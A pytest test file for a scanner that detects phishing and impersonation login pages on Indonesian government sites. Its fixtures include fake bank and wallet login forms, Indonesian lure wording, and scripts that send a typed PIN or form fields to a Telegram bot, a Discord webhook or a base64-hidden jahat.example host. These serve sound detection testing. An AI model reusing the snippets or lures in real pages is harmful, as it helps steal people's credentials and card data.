"""Pages that pose as somebody else, and logins that only name somebody, from their source."""

from __future__ import annotations

import pytest

from cyberscan.model.look import Failed, Reason
from cyberscan.model.verdict import Outcome
from cyberscan.tables.brands import BRANDS, Brand
from cyberscan.tables.phishing import STRICT
from tests.checks.content.phishing_pages import judged
from tests.checks.content.reading import NONE, b64, linked, site, small

PIN = '<input name="user"><input type="password" name="pin">'
SECRET = '<input name="akun"><input type="password" name="sandi">'
CARD = '<input name="kartu" autocomplete="cc-number"><input name="cvv" autocomplete="cc-csc">'


def login(title: str, action: str, *, fields: str = PIN, body: str = "", heading: str = "") -> str:
    top = f"<h1>{heading}</h1>" if heading else ""
    return small(f'{top}<form method="post" action="{action}">{fields}</form>{body}', title=title)


@pytest.mark.parametrize("brand", BRANDS, ids=lambda b: b.name)
@pytest.mark.parametrize("fields", [PIN, CARD], ids=["password", "card"])
def test_every_brand_that_posts_abroad_is_critical(brand: Brand, fields: str) -> None:
    for word in brand.words:
        page = login(f"{word.upper()} - Masuk", "https://jahat.example/k.php", fields=fields)
        verdict = judged(page)
        assert (verdict.outcome, verdict.message) == (Outcome.FAIL, "foreign"), word
        assert "jahat.example" in str(verdict.evidence[0])


@pytest.mark.parametrize("brand", [b for b in BRANDS if b.domains], ids=lambda b: b.name)
def test_a_form_of_the_brand_s_own_is_no_theft(brand: Brand) -> None:
    page = login(f"{brand.name} login", f"https://login.{brand.domains[0]}/")
    assert judged(page).outcome is Outcome.PASS


@pytest.mark.parametrize(
    "path",
    [
        "wp-content/uploads/bca/index.html",
        "images/stories/x/",
        "assets/.x/login.html",
        ".well-known/acme/i.php",
        "storage/app/public/klik/",
        "tmp/1/",
    ],
)
def test_in_a_folder_where_none_belongs(path: str) -> None:
    verdict = judged(site(), linked((path, login("KlikBCA Individual", "kirim.php"))))
    assert verdict.message == "folder"


JAPANESE = (
    "<label>クレジットカード番号<input name=cn></label>"
    "<label>セキュリティコード<input name=cv></label>"
)


@pytest.mark.parametrize("fields", [CARD, JAPANESE], ids=["by its names", "Japanese"])
def test_a_card_in_a_folder_where_none_belongs(fields: str) -> None:
    page = login("", "next.php", fields=fields)
    assert judged(site(), linked(("img/galeri/jp/", page))).message == "posed"
    assert judged(site(), linked(("bayar/", page))).outcome is Outcome.PASS
    assert judged(site(), linked(("img/galeri/", login("", "x", fields="")))).message == "clean"


@pytest.mark.parametrize(
    ("path", "action", "more", "message"),
    [
        ("images/x/", "post.php", "", "posed"),
        ("uploads/a/login.html", "kirim.php", "", "posed"),
        (".x/", "k.php", "", "posed"),
        # A login by its name, an application's own form, and folders that hold applications.
        ("images/x/", "login.php", "", "clean"),
        ("images/x/", "post.php", "<input type=hidden name=_token value=a>", "clean"),
        ("files/x/", "post.php", "", "clean"),
        ("masuk/", "post.php", "", "clean"),
    ],
)
def test_a_login_among_pictures_that_only_keeps_what_it_gets(
    path: str, action: str, more: str, message: str
) -> None:
    page = login("Sign in", action, fields=SECRET + more)
    assert judged(site(), linked((path, page))).message == message


def test_a_script_deep_inside() -> None:
    verdict = judged(site(), linked(("a/b/c/d.html", login("Facebook", "/a/b/c/post.php"))))
    assert verdict.message == "folder"


@pytest.mark.parametrize(
    "script",
    [
        (
            "$('form').submit(function(){$.post('https://api.telegram.org/bot1/sendMessage',"
            "{text:$('[name=pin]').val()})})"
        ),
        "fetch('https://discord.com/api/webhooks/1/a',{method:'POST',body:document.f.pin.value})",
        f"fetch(atob('{b64('https://jahat.example/')}')+document.f.pin.value)",
    ],
)
def test_sent_by_a_script(script: str) -> None:
    page = login("DANA Kaget", "", body=f"<script>{script}</script>")
    assert judged(page).message == "hook"


@pytest.mark.parametrize("title", ["", "Login", "Sign in", "Masuk", "Untitled Document"])
def test_a_title_that_says_nothing_leaves_it_to_the_heading(title: str) -> None:
    page = login(title, "https://jahat.example/k.php", heading="Bank Mandiri")
    assert judged(page).message == "foreign"


@pytest.mark.parametrize(
    ("title", "fields", "message"),
    [
        ("Instagram", SECRET, "brand"),
        ("Instagram", PIN, "posed"),
        ("Instagram | Instagram", SECRET, "brand"),
        ("Microsoft", SECRET, "brand"),
        ("Google", SECRET, "brand"),
        # A counter of the regional bank in the office asks its staff for a PIN.
        ("Bank Jatim", PIN, "brand"),
        ("Bank Jatim", SECRET, "brand"),
        ("Bank Jatim", CARD, "posed"),
        ("Bank Jatim", f"{PIN}<input name=no_rekening>", "posed"),
        ("Bank Mandiri", f"{PIN}<input placeholder='Kode OTP'>", "posed"),
        ("DANA Kaget", PIN, "posed"),
        ("GoPay", "<input name=hp><input name=otp>", "posed"),
        ("WhatsApp", "<input name=hp><input placeholder='Kode 6 digit'>", "posed"),
        ("Mobile Banking", PIN, "posed"),
        ("PayPal", CARD, "posed"),
    ],
)
def test_a_brand_s_name_on_the_own_host(title: str, fields: str, message: str) -> None:
    assert judged(login(title, "/login", fields=fields)).message == message


@pytest.mark.parametrize("brand", sorted(STRICT))
def test_a_login_that_nobody_else_runs(brand: str) -> None:
    word = next(b for b in BRANDS if b.name == brand).words[0].title()
    page = login(f"{word} - Masuk", "/login", fields=SECRET, heading=f"Masuk ke {word}")
    assert judged(page).message == "posed"


HONEST = {
    "no login": site(),
    "the office's login": login("SIMPEG Kabupaten Contoh", "/login"),
    "a login of nobody": login("Login", "/login"),
    "an application's login": login("SIAP | Login", "/app/auth/login.php"),
    "an application deep inside": login("e-Kinerja", "/a/b/c/d/login.php", heading="e-Kinerja"),
    "signing in with another account": login(
        "SIAP", "/login", body='<a href="https://accounts.google.com/o/oauth2/auth">Google</a>'
    ),
    "the button's words as a heading": login(
        "SIAP", "/login", body="<h2>Masuk dengan Google</h2><h2>Facebook</h2>"
    ),
    "the shop of applications": login("SIAP", "/login", heading="Unduh di Google Play"),
    "a payment page": login("Bayar PBB Kabupaten Contoh lewat Bank Jatim", "/bayar.php"),
    "how to pay": login("e-PBB", "/login", heading="Virtual Account Bank Jatim, BRI, BNI"),
    "a virtual account": login("Virtual Account Bank Jatim", "/va/login.php"),
    "a wallet among the ways to pay": login("Retribusi", "/r", body="<p>QRIS, OVO, DANA</p>"),
    "vehicle tax": login("E-Samsat Jatim - BRI", "/login"),
    "an account at another office": login("Layanan Publik", "https://sso.jatimprov.go.id/login"),
    "the office's Zimbra": login("Zimbra Web Client Sign In", "/"),
    "the office's Roundcube": login("Roundcube Webmail :: Welcome to Roundcube Webmail", "/?_task"),
    "the hosting panel's webmail": login("Webmail Login", "/login/"),
    "the office's Outlook": login("Outlook", "/owa/auth.owa"),
    "news of a bank": site("<h2>Bank Jatim salurkan KUR</h2>"),
    "a warning": login("Waspada phishing mengatasnamakan BRI pada Dinas Kominfo", "/login"),
    "funds": login("Dana Desa", "/login"),
    "a gateway for messages": login("WhatsApp Gateway", "/a/b/c/login.php"),
    "an outlook on trade": login("Economic Outlook for East Java Trade 2026", "/login"),
    "apples": login("Apple Batu", "/login"),
    "WhatsApp of the office": login("SIAP", "/login", body="<h2>WhatsApp Dinas</h2>"),
    "a branch of a regional bank": login("BPR Bank Contoh", "/login"),
    "a brand without a login": small("<h1>Facebook</h1>", title="Facebook"),
    "search": small('<form action="https://www.google.com/search"><input name="q"></form>',
                    title="Google"),
}  # fmt: skip


@pytest.mark.parametrize("name", HONEST)
def test_honest_pages_are_not_accused(name: str) -> None:
    for beside in (NONE, linked(("aplikasi/index.php", HONEST[name]))):
        verdict = judged(HONEST[name], beside)
        assert verdict.outcome is Outcome.PASS, verdict


def test_pages_behind_it_that_could_not_be_seen_are_told() -> None:
    assert judged(site(), Failed(Reason.TIMEOUT)).message == "front"


STRANGER = "https://form.jahat.example/proses.php"
FIELDS = '<input name="a"><input type="password" name="b">'


def asking(title: str, text: str, action: str = STRANGER) -> str:
    return (
        f"<title>{title}</title><h1>{title}</h1><p>{text}</p>"
        f'<form method="post" action="{action}">{FIELDS}</form>'
    )


@pytest.mark.parametrize(
    ("title", "text"),
    [
        ("Dinas Sosial Kabupaten Contoh", "NIK, nomor dompet digital, PIN, kode OTP"),
        ("Dinas Sosial Kabupaten Contoh", "Nama ibu kandung, nomor rekening, PIN 6 angka"),
        ("Bapenda Kabupaten Contoh", "Nomor kartu, masa berlaku, CVV, kata sandi"),
        ("Surel Pemkab Contoh", "Kuota kotak surat penuh. Akun ditutup dalam 24 jam."),
        ("Beasiswa Kota Contoh", "Gunakan Akun Google Anda untuk melanjutkan"),
        ("Webmail Kabupaten Contoh", "Your mailbox quota has exceeded; verify your account."),
    ],
)
def test_forms_that_lure_and_send_the_password_to_a_stranger(title: str, text: str) -> None:
    verdict = judged(asking(title, text))
    assert (verdict.outcome, verdict.message) == (Outcome.FAIL, "lure")
    assert "jahat.example" in str(verdict.evidence[0])


@pytest.mark.parametrize(
    ("title", "text", "action"),
    [
        # A rented login, also one that warns of what thieves ask for, or says where it goes.
        ("Login Pegawai Kabupaten Contoh", "NIP atau NIK, kata sandi, kode OTP", STRANGER),
        (
            "Login Pegawai Kabupaten Contoh",
            (
                "NIK, kata sandi. Awas penipuan! Petugas tidak pernah meminta OTP, PIN, atau nomor "
                "kartu."
            ),
            STRANGER,
        ),
        (
            "Login Pegawai Kabupaten Contoh",
            "NIK, PIN, nomor rekening gaji. Dikelola form.jahat.example di bawah kontrak.",
            STRANGER,
        ),
        # The office's own, and a mailbox that only says how large it is.
        ("Surel Pemkab Contoh", "Kuota kotak surat penuh. Akun ditutup dalam 24 jam.", "/masuk"),
        ("Surel Pemkab Contoh", "Kuota 1 GB untuk tiap pegawai.", STRANGER),
        ("Bapenda Kabupaten Contoh", "Nomor rekening, PIN, NIK", "https://pajak.go.id/masuk"),
        ("Login Kota Contoh", "Masuk dengan akun Google, atau NIP dan kata sandi", STRANGER),
        ("Waspada penipuan", "NIK, nomor dompet digital, PIN, kode OTP", STRANGER),
    ],
)
def test_ordinary_logins_are_no_lures(title: str, text: str, action: str) -> None:
    assert judged(asking(title, text, action)).message in {"clean", "outside"}


@pytest.mark.parametrize("title", ["Internet Banking - Masuk", "Login Mobile Banking"])
def test_a_bank_s_service_by_its_common_name(title: str) -> None:
    assert judged(asking(title, "User ID dan PIN")).message == "foreign"


def test_a_false_login_that_is_shown_as_one_passes() -> None:
    page = asking("Contoh penipuan: klaim DANA Kaget", "PIN", "/contoh")
    assert judged(page).outcome is Outcome.PASS


@pytest.mark.parametrize(
    ("host", "message"), [("terima.jahat.example", "foreign"), ("www.klikbca.com", "posed")]
)
def test_a_brand_s_page_whose_script_sends_the_fields_away(host: str, message: str) -> None:
    script = f"function k(f){{fetch('https://{host}/g',{{method:'POST',body:new FormData(f)}})}}"
    page = asking("KlikBCA Individual", "User ID", "/masuk") + f"<script>{script}</script>"
    assert judged(page).message == message


GATEWAY = (
    '<form action="/Default.aspx">NIK <input name="nik"> Kata sandi <input type="password"> Kode '
    'OTP <input name="o"></form><form action="{to}">Nomor kartu <input autocomplete="cc-number"> '
    'CVV <input name="cvv"></form>'
)


@pytest.mark.parametrize(
    ("to", "message"),
    [("https://app.midtrans.com/snap/v1/pay", "clean"), ("https://bayar.example/v1", "outside")],
)
def test_what_the_own_form_asks_is_not_the_other_s(to: str, message: str) -> None:
    page = small(GATEWAY.format(to=to), title="e-PBB Contoh - Login dan Pembayaran")
    assert judged(page).message == message


TOKENS = ["_token", "csrf_test_name", "csrfmiddlewaretoken", "__RequestVerificationToken"]


@pytest.mark.parametrize("name", TOKENS)
@pytest.mark.parametrize(
    ("action", "body", "message"),
    [
        ("https://terima.example/r/1?back=https%3A%2F%2Fwww.contohkab.go.id%2F", "", "diverted"),
        ("/masuk", "", "clean"),
        ("https://sso.firma.example/login", "", "outside"),
        ("https://sso.firma.example/realms/x/login-actions", "", "clean"),
        ("https://terima.example/r/1", "<p>Disediakan oleh terima.example</p>", "clean"),
        ("https://sso.contohprov.go.id/r", "", "clean"),
        ("https://app.midtrans.com/r", "", "clean"),
    ],
)
def test_an_application_s_own_form_goes_home(
    name: str, action: str, body: str, message: str
) -> None:
    fields = f'<input type="hidden" name="{name}" value="x">{PIN}'
    page = login("Sistem Informasi Pegawai", action, fields=fields, body=body)
    assert judged(page).message == message


@pytest.mark.parametrize(
    ("to", "message"),
    [
        ("https://terima.example/f/x", "diverted"),
        ("/auth/daftar", "clean"),
        ("https://sso.contohprov.go.id/x", "clean"),
    ],
)
def test_a_button_that_sends_it_elsewhere(to: str, message: str) -> None:
    fields = f'{PIN}<button formaction="{to}">Masuk</button>'
    assert judged(login("Sistem Informasi Pegawai", "/auth", fields=fields)).message == message


@pytest.mark.parametrize(
    ("says", "message"),
    [
        ("Masukkan PIN untuk mencairkan pengembalian pajak", "lure"),
        ("Klaim hadiah: masukkan kode OTP", "lure"),
        ("Enam belas angka di depan kartu, saldo terakhir, kode enam angka", "lure"),
        ("PIN pegawai dan kata sandi", "outside"),
        ("Kami tidak pernah meminta PIN untuk klaim hadiah.", "outside"),
    ],
)
@pytest.mark.parametrize("framed", [False, True])
def test_what_a_form_promises(says: str, message: str, *, framed: bool) -> None:
    form = f'<form action="https://terima.example/s"><p>{says}</p>{PIN}</form>'
    if framed:
        form = f"<iframe srcdoc='{form}'></iframe>"
    page = small(f"<h1>Bapenda Contoh</h1>{form}", title="Badan Pendapatan Daerah Contoh")
    assert judged(page).message == message
